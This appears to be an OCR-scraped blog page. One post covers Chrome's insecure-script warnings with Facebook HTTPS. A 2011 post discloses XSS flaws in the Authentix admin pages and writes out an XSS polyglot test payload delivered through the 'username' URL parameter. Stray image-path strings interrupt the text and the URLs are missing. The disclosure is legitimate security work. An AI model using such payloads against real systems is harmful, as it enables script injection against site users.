Keep in mind that I do use Facebook's permanent HTTPS feature, which may have something to do with this. The fact that Facebook is causing issues explained why I was having issues elsewhere around the web: Facebook is embedded in some form on almost everywebpage. I confirmed this by checking Chrome's developer tools to see what was being blocked on these pages.
To determine what was causing this, I decided to disable HTTPS in Facebook and see what happened. Turning off HTTPS allowed Facebook to load around the web without causing the "insecure script" warning in Chrome.

So what was causing this? Looking into Chrome's developer tool, it appears that it is blocking a CSS page from Facebook, which explains why Facebook loads without its styles present as you can see in the imageabove. Also, Chrome takes issue with a number of lines of JavaScript used within the Facebook page. In total, it found 10 errors and 45 warnings on Facebook's homepage alone.

The only solution as of now is to either disable HTTPS in Facebook (it's not enabled by default, so you'll only be having these issues if you specifically turned it on) or running Chrome without blocking insecure scripts, which isn't recommended, but can be done by following the guide here:

Tuesday, July 26, 2011

Authentix Vulnerabilities

While doing some work on an Authentix system, I discovered a few, very basic, JavaScript injection and cross-site scripting vulnerabilities. After finding these, I've done some research and it appears that these issues have been discovered and reported to the vender previously (in previous versions) yet they still remain in the latest version of the software. The issue is mitigated slightly by the fact that the vulnerbility occurs on an admin page, visible after login, but I wouldn't doubt that other areas of the site exhibit the same issues.

Authentix is a webpage protection tool that uses IIS and NT user names as a backend. You can read more about the product here: To me, it seems like a very antiquated tool, but apparently it is still used in production environments.

The vulnerability occurs within the remote administration webpage while editing user accounts. After logging in, browse to the delete user admin page at:

This page allows you to enter the user name of the user you wish to delete.
When you click "deleteuser," the site appears to silently pass the parameter to the next page as shown here in the URL:
And here on the webpage:
So this part got me thinking. After looking into the code a bit, the textbox where the name is originally entered is called "username." So suppose we pass that in via the URL rather than typing it in the box and clicking the button? Let's try it:
Now this is why we have a problem. The webpage appears to just be displaying on the page whatever text was typed after "username=" in the URL. This is exactly how JavaScript injection and cross-site scripting start. So now let's try a new URL:';alert(String.fromCharCode(88,83,83))//\';alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//--></SCRIPT>">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>

(This code was taken from which is a very nice XSS cheat-sheet).

This URL works nicely:

This works on several other pages as well, including some that are persistent. I have only tested to see whether a few other pages are vulnerable, but the entire siteappears to be a bit outdated, especially from a design standpoint. I have emailed the company again (they havebeen contacted previously about this) and, if I receive a response, will include it here.